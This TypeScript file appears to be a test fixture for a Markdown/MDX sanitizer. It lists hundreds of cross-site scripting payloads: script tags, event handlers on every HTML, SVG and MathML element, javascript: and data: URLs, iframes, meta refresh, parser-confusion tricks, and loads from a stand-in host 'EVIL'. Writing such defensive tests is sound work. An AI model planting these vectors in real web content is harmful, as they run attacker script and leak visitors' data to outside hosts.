import { pages, type Payload } from "../payload.ts";

const html =
  "a abbr acronym address applet area article aside audio b base bdi bdo big blockquote body br button canvas caption center cite code col colgroup custom-element data datalist dd del details dfn dialog dir div dl dt em embed fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe image img input ins kbd label legend li link main map mark marquee menu meta meter nav noscript object ol optgroup option output p param picture pre progress q rp rt ruby s samp search section select slot small source span strike strong style sub summary sup table tbody td textarea tfoot th thead time tr track tt u ul var video wbr";
const svg =
  "a animate animateMotion animateTransform circle clipPath defs desc ellipse feBlend feFlood feImage filter foreignObject g image line linearGradient marker mask metadata mpath path pattern polygon polyline radialGradient rect script set stop style svg switch symbol text textPath title tspan use view";
const math =
  "math annotation annotation-xml maction menclose merror mfrac mi mn mo mover mpadded mphantom mroot mrow ms mspace msqrt mstyle msub mtable mtd mtext mtr munder semantics";

/** Event handlers, written in each of the three possible ways. */
const asText =
  'onclick="RUN" onfocus="RUN" onmouseover="RUN" onpointerenter="RUN" onload="RUN" onerror="RUN" onbegin="RUN" ontoggle="RUN" onkeydown="RUN" onanimationend="RUN" onbeforeinput="RUN"';
const asCode =
  "onClick={() => RUN} onFocus={() => RUN} onMouseOver={() => RUN} onLoad={() => RUN} onError={() => RUN} ONCLICK={() => RUN}";
const asSpread = '{...{ onclick: "RUN", onload: "RUN", onerror: "RUN", OnMouseOver: "RUN", "on\\u0063lick": "RUN" }}';

const inTable: ReadonlySet<string> = new Set("caption col colgroup tbody td tfoot th thead tr".split(" "));

function handlers(kind: string, names: string, wrap: (tag: string, text: string) => string): readonly Payload[] {
  return names.split(" ").map((tag) => {
    const each = wrap(tag, `<${tag} ${asText}>x</${tag}>`);
    return {
      name: `handlers/${kind} ${tag}`,
      page: [
        wrap(tag, `<${tag} ${asText} />`),
        wrap(tag, `<${tag} ${asCode}>x</${tag}>`),
        wrap(tag, `<${tag} ${asSpread}>x</${tag}>`),
      ].join("\n\n"),
      html: each,
    };
  });
}

export const elements: readonly Payload[] = [
  ...pages("script", {
    plain: ["<script>{`RUN`}</script>", "<script>RUN</script>"],
    inline: ["text <script>RUN</script> text", "<script>RUN</script>"],
    "in uppercase": ["<SCRIPT>RUN</SCRIPT>", "<SCRIPT>RUN</SCRIPT>"],
    "from the web": ['<script src="https://EVIL/a.js"></script>', '<script src="https://EVIL/a.js"></script>'],
    "from a data URL": [
      '<script src="data:text/javascript,RUN" />',
      '<script src="data:text/javascript,RUN"></script>',
    ],
    module: ['<script type="module">RUN</script>', '<script type="module">RUN</script>'],
    "with an import in a module": [
      '<script type="module">{`import "https://EVIL/m.js"`}</script>',
      '<script type="module">import "https://EVIL/m.js"</script>',
    ],
    "in an element": ["<div><p><script>RUN</script></p></div>", "<div><script>RUN</script></div>"],
    "in an SVG image": ["<svg><script>RUN</script></svg>", "<svg><script>RUN</script></svg>"],
    "in an SVG image by URL": [
      '<svg><script href="https://EVIL/a.js" /></svg>',
      '<svg><script href="https://EVIL/a.js"></script></svg>',
    ],
    "in a component": ['<Card title="a"><script>RUN</script></Card>', "<script>RUN</script>"],
    "in an element as a title": ["<Card title={<script>RUN</script>}>a</Card>", "<b><script>RUN</script></b>"],
    "in raw Markdown HTML": ["<div>\n\n<script>\nRUN\n</script>\n\n</div>", "<script>\nRUN\n</script>"],
    "created by createElement": ["{React.createElement('script', null, 'RUN')}", "<script>RUN</script>"],
    "as a tag whose name is a variable": ["export const Tag = 'script'\n\n<Tag>RUN</Tag>", "<script>RUN</script>"],
    "with the type application/javascript": [
      '<script type="application/javascript" async>RUN</script>',
      '<script type="application/javascript" async>RUN</script>',
    ],
    "speculation rules": [
      '<script type="speculationrules">{`{"prefetch":[{"source":"list","urls":["https://EVIL"]}]}`}</script>',
      '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://EVIL"]}]}</script>',
    ],
    "an import map": [
      '<script type="importmap">{`{"imports":{"a":"https://EVIL/a.js"}}`}</script>',
      '<script type="importmap">{"imports":{"a":"https://EVIL/a.js"}}</script><script type="module">import "a"</script>',
    ],
  }),
  ...pages("loads", {
    "image with an error handler": ['<img src="x" onError="RUN" />', '<img src="x" onerror="RUN">'],
    "image from the web": ['<img src="https://EVIL/p.png" />', '<img src="https://EVIL/p.png">'],
    "image from a source set": [
      '<img srcSet="https://EVIL/p.png 2x" />',
      '<img srcset="https://EVIL/p.png 1x, https://EVIL/q.png 2x">',
    ],
    "Markdown image": ["![a](https://EVIL/p.png)", '<img src="https://EVIL/p.png">'],
    "Markdown image by reference": ["![a][b]\n\n[b]: https://EVIL/p.png", '<img src="https://EVIL/p.png">'],
    "image without a scheme": ["![a](//EVIL/p.png)", '<img src="//EVIL/p.png">'],
    "image with backslashes": ['<img src="\\\\EVIL/p.png" />', '<img src="/\\EVIL/p.png">'],
    "image with a tab in the scheme": ['<img src={"ht\\ttps://EVIL/p.png"} />', '<img src="ht&#9;tps://EVIL/p.png">'],
    "image with a username in the URL": ["![a](https://user:pw@EVIL/p.png)", '<img src="https://user:pw@EVIL/p.png">'],
    "image in a picture element": [
      '<picture><source srcSet="https://EVIL/p.webp" /><img src="https://EVIL/p.png" /></picture>',
      '<picture><source srcset="https://EVIL/p.webp"><img src="https://EVIL/p.png"></picture>',
    ],
    video: ['<video src="https://EVIL/v.mp4" autoPlay />', '<video src="https://EVIL/v.mp4" autoplay></video>'],
    "poster of a video": ['<video poster="https://EVIL/p.png" />', '<video poster="https://EVIL/p.png"></video>'],
    "source of a video": [
      '<video><source src="https://EVIL/v.mp4" onError="RUN" /></video>',
      '<video><source src="https://EVIL/v.mp4" onerror="RUN"></video>',
    ],
    "track of a video": [
      '<video><track default src="https://EVIL/t.vtt" /></video>',
      '<video src="https://EVIL/v.mp4"><track default src="https://EVIL/t.vtt"></video>',
    ],
    audio: ['<audio src="https://EVIL/a.mp3" />', '<audio src="https://EVIL/a.mp3"></audio>'],
    iframe: ['<iframe src="https://EVIL" />', '<iframe src="https://EVIL"></iframe>'],
    "iframe with a script URL": ['<iframe src="javascript:RUN" />', '<iframe src="javascript:parent.RUN"></iframe>'],
    "iframe with a data URL": [
      '<iframe src="data:text/html,<script>RUN</script>" />',
      '<iframe src="data:text/html,<img src=https://EVIL/p.png>"></iframe>',
    ],
    srcdoc: [
      '<iframe srcDoc="<script>parent.RUN</script>" />',
      '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    ],
    "spread srcdoc in lowercase": [
      '<iframe {...{ srcdoc: "<script>parent.RUN</script>" }} />',
      '<iframe srcdoc="<img src=x onerror=parent.RUN>"></iframe>',
    ],
    frame: [
      '<frameset><frame src="javascript:RUN" /></frameset>',
      '<iframe name="f" src="https://EVIL/frame"></iframe>',
    ],
    object: ['<object data="https://EVIL/o.html" />', '<object data="https://EVIL/o.html" type="text/html"></object>'],
    "object with a data URL": [
      '<object data="data:text/html,<script>parent.RUN</script>" />',
      '<object type="text/html" data="data:text/html,<img src=https://EVIL/p.png>"></object>',
    ],
    embed: ['<embed src="https://EVIL/e.svg" />', '<embed src="https://EVIL/e.svg">'],
    applet: ['<applet code="https://EVIL/A.class" />', ""],
    "style sheet": [
      '<link rel="stylesheet" href="https://EVIL/a.css" />',
      '<link rel="stylesheet" href="https://EVIL/a.css">',
    ],
    "style sheet from a data URL": [
      '<link rel="stylesheet" href="data:text/css,@import url(https://EVIL/a.css)" />',
      '<link rel="stylesheet" href="data:text/css,@import url(https://EVIL/a.css)">',
    ],
    prefetch: ['<link rel="prefetch" href="https://EVIL/a" />', '<link rel="prefetch" href="https://EVIL/a">'],
    preload: [
      '<link rel="preload" as="image" href="https://EVIL/a.png" />',
      '<link rel="preload" as="image" href="https://EVIL/a.png">',
    ],
    modulepreload: [
      '<link rel="modulepreload" href="https://EVIL/a.js" />',
      '<link rel="modulepreload" href="https://EVIL/a.js">',
    ],
    manifest: [
      '<link rel="manifest" href="https://EVIL/m.json" />',
      '<link rel="manifest" href="https://EVIL/m.json">',
    ],
    icon: ['<link rel="icon" href="https://EVIL/i.png" />', '<link rel="icon" href="https://EVIL/i.png">'],
    preconnect: ['<link rel="preconnect" href="https://EVIL" />', ""],
    base: [
      '<base href="https://EVIL/" />\n\n<img src="relative.png" />',
      '<base href="https://EVIL/"><img src="relative.png">',
    ],
    "meta refresh": [
      '<meta httpEquiv="refresh" content="0;url=https://EVIL/refresh" />',
      '<meta http-equiv="refresh" content="0;url=https://EVIL/refresh">',
    ],
    "meta refresh to a script URL": ['<meta httpEquiv="refresh" content="0;url=javascript:RUN" />', ""],
    "meta refresh with its HTML attribute name": [
      '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>" />',
      "",
    ],
    "meta element with a policy": [
      '<meta httpEquiv="Content-Security-Policy" content="default-src *" />\n\n<img src="https://EVIL/p.png" />',
      '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'"><img src="https://EVIL/p.png">',
    ],
    input: ['<input type="image" src="https://EVIL/i.png" />', '<input type="image" src="https://EVIL/i.png">'],
    "background of a table": [
      '<table background="https://EVIL/p.png"><tbody><tr><td background="https://EVIL/p.png">a</td></tr></tbody></table>',
      '<table background="https://EVIL/p.png"><tr><td background="https://EVIL/p.png">a</td></tr></table>',
    ],
    "background of the body": ['<body background="https://EVIL/p.png" onLoad="RUN">a</body>', ""],
    form: [
      '<form action="https://EVIL" method="get"><button type="submit">a</button></form>',
      '<form action="https://EVIL" method="get"><button>a</button></form>',
    ],
    "form with a script URL": [
      '<form action="javascript:RUN"><input type="submit" /></form>',
      '<form action="javascript:RUN"><input type="submit"></form>',
    ],
    formaction: [
      '<form><button formAction="javascript:RUN">a</button></form>',
      '<form><button formaction="javascript:RUN">a</button></form>',
    ],
    "formaction on the web": [
      '<form><input type="submit" formAction="https://EVIL" /></form>',
      '<form><input type="submit" formaction="https://EVIL"></form>',
    ],
    "button for a form elsewhere": [
      '<form id="far" action="https://EVIL"></form>\n\n<button form="far">a</button>',
      '<form id="far" action="https://EVIL"></form><button form="far">a</button>',
    ],
    isindex: ['<isindex action="javascript:RUN" type="image" />', ""],
    ping: ['<a href="#a" ping="https://EVIL/ping">a</a>', '<a href="#a" ping="https://EVIL/ping">a</a>'],
    "area of an image map": [
      '<map name="m"><area href="javascript:RUN" shape="default" /></map>\n\n<img useMap="#m" src="x.png" />',
      '<map name="m"><area href="javascript:RUN" shape="default"></map><img usemap="#m" src="x.png">',
    ],
    "automatic focus": ['<input autoFocus onFocus="RUN" />', '<input autofocus onfocus="RUN">'],
    "open details": [
      '<details open onToggle="RUN"><summary>a</summary>b</details>',
      '<details open ontoggle="RUN"><summary>a</summary>b</details>',
    ],
    marquee: ['<marquee onStart="RUN">a</marquee>', '<marquee onstart="RUN">a</marquee>'],
    "animation with an end handler": [
      '<style>{`@keyframes x{from{left:0}to{left:1px}}`}</style>\n\n<div style={{animation: "x 1ms"}} onAnimationEnd="RUN">a</div>',
      '<style>@keyframes xa{from{left:0}to{left:1px}}</style><div style="animation:xa 1ms" onanimationend="RUN">a</div>',
    ],
    popover: [
      '<button popovertarget="x">a</button><div popover id="x" onbeforetoggle="RUN">b</div>',
      '<button popovertarget="x">a</button><div popover id="x" onbeforetoggle="RUN">b</div>',
    ],
    "shadow root": ['<div><template shadowrootmode="open"><script>RUN</script></template></div>', ""],
    noscript: [
      '<noscript><p title="</noscript><img src=x onerror=RUN>">a</p></noscript>',
      '<noscript><p title="</noscript><img src=x onerror=RUN>">a</p></noscript>',
    ],
    "an element with a custom name": [
      '<x-evil is="x-evil" onClick="RUN">a</x-evil>',
      '<x-evil onclick="RUN">a</x-evil>',
    ],
    is: [
      '<button is="evil-button" onClick={() => RUN}>a</button>',
      '<button is="evil-button" onclick="RUN">a</button>',
    ],
    portal: ['<portal src="https://EVIL" />', ""],
    fencedframe: ['<fencedframe src="https://EVIL" />', ""],
    dialog: [
      '<dialog open onClose="RUN"><form method="dialog"><button>a</button></form></dialog>',
      '<dialog open onclick="RUN">a</dialog>',
    ],
    attribution: ['<img attributionsrc="https://EVIL/at" src="a.png" />', ""],
    "lazy loading": [
      '<img loading="lazy" src="https://EVIL/lazy.png" />',
      '<img loading="eager" src="https://EVIL/lazy.png">',
    ],
  }),
  ...pages("raw", {
    dangerouslySetInnerHTML: [
      '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=RUN>" }} />',
      "<img src=x onerror=RUN>",
    ],
    "dangerouslySetInnerHTML on a component": [
      '<Card title="a" dangerouslySetInnerHTML={{ __html: "<img src=x onerror=RUN>" }} />',
      "<img src=x onerror=RUN>",
    ],
    "spread dangerouslySetInnerHTML": [
      '<p {...{ dangerouslySetInnerHTML: { __html: "<svg onload=RUN>" } }} />',
      "<svg onload=RUN></svg>",
    ],
    innerHTML: ['<div innerHTML="<img src=x onerror=RUN>" />', "<img src=x onerror=RUN>"],
    outerHTML: ['<div outerHTML="<img src=x onerror=RUN>" />', "<img src=x onerror=RUN>"],
    "HTML comments": ["<!--><img src=x onerror=RUN>-->", "<!--><img src=x onerror=RUN>-->"],
    "HTML comments that end early": ["<!-- --!><img src=x onerror=RUN> -->", "<!-- --!><img src=x onerror=RUN> -->"],
    "processing instructions and CDATA": [
      "<?xml a?><![CDATA[<img src=x onerror=RUN>]]>",
      "<![CDATA[<img src=x onerror=RUN>]]>",
    ],
    "entities that form a tag": ["&lt;img src=x onerror=RUN&gt;", ""],
    "entities in a string": ['<div title="&quot;&gt;&lt;img src=x onerror=RUN&gt;">a</div>', ""],
    "markup that the parser repairs": [
      '<div><a title="</div><img src=x onerror=RUN>">a</a></div>',
      '<math><mi><style><a title="</style><img src=x onerror=RUN>"></style></mi></math>',
    ],
    "markup in noembed": [
      '<noembed><img title="</noembed><img src=x onerror=RUN>" /></noembed>',
      '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
    ],
    "markup in xmp": [
      '<xmp><p title="</xmp><svg onload=RUN>" /></xmp>',
      '<xmp><p title="</xmp><svg onload=RUN>"></xmp>',
    ],
    "unclosed tags": ["<img src=x onerror=RUN //", "<img src=x onerror=RUN //><"],
    "slashes instead of spaces": ["<svg/onload=RUN>", "<svg/onload=RUN>"],
    "markup in a key": ['<p key="<img src=x onerror=RUN>" ref="x">a</p>', ""],
    plaintext: ['<plaintext onclick="RUN" />', ""],
  }),
  ...handlers("html", html, (tag, text) => (inTable.has(tag) ? `<table>${text}</table>` : text)),
  ...handlers("svg", svg, (tag, text) => (tag === "svg" ? text : `<svg>${text}</svg>`)),
  ...handlers("math", math, (tag, text) => (tag === "math" ? text : `<math>${text}</math>`)),
];
